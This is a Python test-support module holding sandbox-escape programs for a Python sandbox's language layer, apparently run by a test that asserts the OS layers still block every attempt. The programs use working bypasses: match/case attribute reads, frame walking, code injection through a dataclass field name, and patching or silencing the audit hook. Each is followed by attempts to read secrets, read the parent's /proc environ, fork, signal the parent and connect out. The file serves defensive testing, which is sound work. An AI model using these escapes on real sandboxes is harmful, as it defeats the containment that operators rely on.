"""Programs the language layer does not stop (the language layer is a
convenience, the OS layers are the boundary). Each reaches, with the production
language layer on, something the layer meant to keep out (the real `builtins`,
the child's `os` and `sys`, the hook switched off), then tries what an attacker
wants: the daemon's secrets, a file outside, /proc of the parent, a signal, a
fork. tests/sandbox/test_sandbox_modes.py runs them in every mode and asserts `damage`
is empty; `reached` is what the program got past the language layer (not asserted:
the language layer may close a route one day; the OS layers must not need it).

SECRET_FILE, MARKER, TCP_PORT and PARENT_PID are filled in by the test.
"""

from __future__ import annotations

# attr(): type() with three arguments and match/case read any attribute by name.
# via(): functools.update_wrapper reads it in a stdlib frame (which the audit hook
# trusted), a dataclass with a field of that name gives it back through __match_args__.
PRELUDE = """
import dataclasses, functools
reached = []
def attr(obj, name):
    # type() with three arguments: a metaclass whose __instancecheck__ says yes and a
    # __match_args__ naming any attribute turn `case` into a read by name.
    meta = type('Meta', (type,), {'__instancecheck__': lambda cls, o: True})
    probe = meta('Probe', (), {'__match_args__': (name,)})
    match obj:
        case probe(value):
            return value
def via(obj, name):
    # The stdlib reads the attribute in its own frame (update_wrapper), a dataclass
    # with a field of that name hands it back through __match_args__.
    holder_cls = dataclasses.dataclass(type('Holder', (), {'__annotations__': {name: object}}))
    holder = holder_cls(None)
    functools.update_wrapper(holder, obj, assigned=(name,), updated=())
    match holder:
        case holder_cls(value):
            return value
"""

DAMAGE = """
damage = []
def attempt(label, fn):
    try:
        fn()
    except BaseException:
        return
    damage.append(label)
def damage_with(b, osm):
    attempt('read_secret', lambda: b.open(SECRET_FILE).read())
    attempt('write_marker', lambda: b.open(MARKER, 'w').write('x'))
    attempt('os_read_secret', lambda: osm.read(osm.open(SECRET_FILE, 0), 99))
    attempt('proc_parent', lambda: osm.read(osm.open('/proc/PARENT_PID/environ', 0), 99))
    attempt('signal_parent', lambda: osm.kill(PARENT_PID, 0))
    attempt('fork', lambda: osm.fork())
    attempt('listdir_root_proc', lambda: osm.listdir('/proc/PARENT_PID'))
    attempt('connect_tcp', lambda: attr(b, '__import__')('socket').create_connection(('127.0.0.1', TCP_PORT), 1))
result = {'reached': reached, 'damage': damage}
"""

VARIANTS: dict[str, str] = {
    "type3_match_builtins": """
b = attr(len, '__self__')
osm = attr(b, '__import__')('os')
reached.append(str(b)[:40]); reached.append(str(osm)[:40])
damage_with(b, osm)
""",
    "frame_walk_via_update_wrapper": """
try:
    1 / 0
except ZeroDivisionError as exc:
    tb = via(exc, '__traceback__')
frame = via(tb, 'tb_frame')
up = via(frame, 'f_back')
g = via(up, 'f_globals')
reached.append(sorted(k for k in g if k in ('os', 'sys', '_rpc')))
damage_with(attr(len, '__self__'), g['os'])
""",
    "dataclass_fieldname_codegen": """
# A field name that is code: dataclasses builds __eq__ from it and execs it with
# the real builtins (the class's module is not in sys.modules).
bag = []
name = "a,self.a.append(__import__('builtins')),self.a"
# (a docstring: else dataclasses makes one with inspect.signature, whose ast.parse the hook refuses)
cls = dataclasses.dataclass(init=False, repr=False)(type('C', (), {'__annotations__': {name: int}, 'a': bag,
                                                                   '__doc__': 'C'}))
try:
    cls() == cls()
except BaseException as exc:
    reached.append('eq raised ' + str(type(exc)))
if bag:
    b = bag[0]
    reached.append(str(b)[:40])
    damage_with(b, attr(b, '__import__')('os'))
""",
    "hook_closure_patch": """
# The hook's judge keeps its helpers in closure cells: a compile the hook refuses
# leaves the hook's frame in the traceback, its locals hold judge, and judge's
# realpath cell, set to a function naming a trusted compiler, lets every
# compile and exec through.
b = attr(len, '__self__')
try:
    b.compile('1', 'x', 'eval')
except BaseException as exc:
    tb = via(exc, '__traceback__')
frames = []
while tb is not None:
    frames.append(via(tb, 'tb_frame'))
    tb = via(tb, 'tb_next')
judge = via(frames[-1], 'f_locals').get('judge')
cells = via(judge, '__closure__') if judge is not None else ()
trusted = [attr(c, 'cell_contents') for c in cells if type(attr(c, 'cell_contents')) is tuple]
for cell in cells:
    if str(attr(cell, 'cell_contents')).startswith('<function realpath') and trusted:
        holder = type('W', (), {})()
        holder.cell_contents = lambda path, answer=trusted[0][0]: answer
        try:  # it sets cell_contents, then fails to set __wrapped__ on a cell
            functools.update_wrapper(cell, holder, assigned=('cell_contents',), updated=())
        except AttributeError:
            pass
        reached.append('realpath cell: ' + str(attr(cell, 'cell_contents'))[:30])
try:
    reached.append(b.eval('1 + 1'))
except BaseException as exc:
    reached.append('eval: ' + str(type(exc)))
damage_with(b, attr(b, '__import__')('os'))
""",
    "hook_globals_silenced": """
# The hook looks up _SILENT in its module's globals on every event: replace it
# with an object that contains everything, and the hook is off.
class Everything:
    def __contains__(self, item):
        return True
try:
    1 / 0
except ZeroDivisionError as exc:
    tb = via(exc, '__traceback__')
g = via(via(via(tb, 'tb_frame'), 'f_back'), 'f_globals')
g['_SILENT'] = Everything()
b = attr(len, '__self__')
osm = g['os']
try:
    reached.append(len(g['sys'].modules['gc'].get_objects()) > 0 if 'gc' in g['sys'].modules else 'no gc')
    reached.append(attr(b, 'eval')('1 + 1'))
    reached.append(osm.listdir('/'))
except BaseException as exc:
    reached.append('after silencing: ' + str(type(exc)))
damage_with(b, osm)
""",
    "posixpath_replaced": """
# The hook calls os.path.realpath, which calls posixpath functions from its
# module's globals: make them say every path is the working directory.
b = attr(len, '__self__')
osm = attr(b, '__import__')('os')
posix_path = attr(osm, 'path')
setter = attr(b, 'setattr')
setter(posix_path, '_joinrealpath', lambda path, rest, strict, seen: (osm.getcwd(), True))
reached.append(posix_path.realpath('/etc/passwd'))
damage_with(b, osm)
""",
    "heapq_key_partial_setattr": """
# heapq calls the key in its own frame: partial(setattr, ...) writes any attribute.
import heapq
b = attr(len, '__self__')
target = type('T', (), {})()
heapq.nlargest(1, [b], key=functools.partial(attr(b, 'setattr'), target, 'grabbed'))
reached.append(str(target.grabbed)[:30])
damage_with(b, attr(b, '__import__')('os'))
""",
    "total_ordering_singledispatch_type_hints": """
import typing
ordered = functools.total_ordering(type('O', (), {'__lt__': lambda a, c: True}))
reached.append(ordered() >= ordered())
def grab(x: "attr(len, '__self__')"):
    return x
for label, fn in (('get_type_hints', lambda: typing.get_type_hints(grab)),
                  ('singledispatch', lambda: functools.singledispatch(len).register(grab))):
    try:
        reached.append((label, str(fn())[:40]))
    except BaseException as exc:
        reached.append((label, str(type(exc))))
b = attr(len, '__self__')
damage_with(b, attr(b, '__import__')('os'))
""",
    "namedtuple_replace_and_format": """
import collections
for fields in (['a', 'b'], ["a=__import__('os')"]):
    try:
        reached.append(str(collections.namedtuple('N', fields)(*range(len(fields)))))
    except BaseException as exc:
        reached.append(str(type(exc)))
fmt = str.format
reached.append(fmt('{0.__self__}', len)[:40])
holder_cls = dataclasses.dataclass(type('H', (), {'__annotations__': {'__self__': object}}))
h = holder_cls(None)
functools.update_wrapper(h, len, assigned=('__self__',), updated=())
again = dataclasses.replace(h)
match again:
    case holder_cls(v):
        b = v
reached.append(str(b)[:40])
damage_with(b, attr(b, '__import__')('os'))
""",
}


def programs() -> dict[str, str]:
    """name -> the whole program, ending in `result = {'reached': ..., 'damage': ...}`."""
    head = PRELUDE + DAMAGE.split("result =")[0]
    return {
        f"escape_{name}": head + code + "result = {'reached': reached, 'damage': damage}\n"
        for name, code in VARIANTS.items()
    }


# Every function reachable from the allowlisted modules as a program sees them
# (the import views, then public attributes of modules and classes, recursively),
# called with no argument and with one string argument. `foreign` lists what a
# view should never hand out: a module outside the allowlist, or a function of
# a module outside it (os, sys, builtins' open/exec...); `calls` counts the calls made.
WALK_ALLOWLISTED = """
import math, statistics, itertools, functools, collections, datetime, json, re, heapq, bisect
import dataclasses, typing, operator, string, textwrap, random, decimal, fractions
import collections.abc
ALLOWED = {'math', 'statistics', 'itertools', 'functools', 'collections', 'datetime', 'json', 're',
           'heapq', 'bisect', 'dataclasses', 'typing', 'operator', 'string', 'textwrap', 'random',
           'decimal', 'fractions', 'builtins', 'abc', 'enum', 'types', 'copy', 'numbers', 'contextlib'}
roots = [math, statistics, itertools, functools, collections, datetime, json, re, heapq, bisect,
         dataclasses, typing, operator, string, textwrap, random, decimal, fractions, collections.abc]
seen, queue, functions, foreign = set(), list(roots), [], []
module_type = type(math)
def public(obj):
    own = member(obj, '__dict__')
    return [name for name in (list(own) if own is not None else []) if not name.startswith('_')]
def member(obj, name):
    meta = type('Meta', (type,), {'__instancecheck__': lambda cls, o: True})
    probe = meta('Probe', (), {'__match_args__': (name,)})
    try:
        match obj:
            case probe(value):
                return value
    except BaseException:
        return None
while queue and len(seen) < 20000:
    obj = queue.pop()
    if id(obj) in seen:
        continue
    seen.add(id(obj))
    if isinstance(obj, module_type):
        if str(obj).split("'")[1].split('.')[0] not in ALLOWED:
            foreign.append(str(obj))
            continue
    for name in public(obj):
        value = member(obj, name)
        if isinstance(value, module_type) or isinstance(value, type):
            queue.append(value)
        elif callable(value):
            owner = str(member(value, '__module__'))
            if owner.split('.')[0] in ('os', 'posix', 'sys', 'io', '_io', 'subprocess', 'socket', 'gc', 'ctypes'):
                foreign.append(owner + '.' + name)
            if id(value) not in seen:
                seen.add(id(value))
                functions.append(value)
calls = 0
for fn in functions:
    for args in ((), ('x',)):
        calls += 1
        try:
            fn(*args)
        except BaseException:
            pass
result = {'functions': len(functions), 'calls': calls, 'foreign': sorted(set(foreign))[:20]}
"""
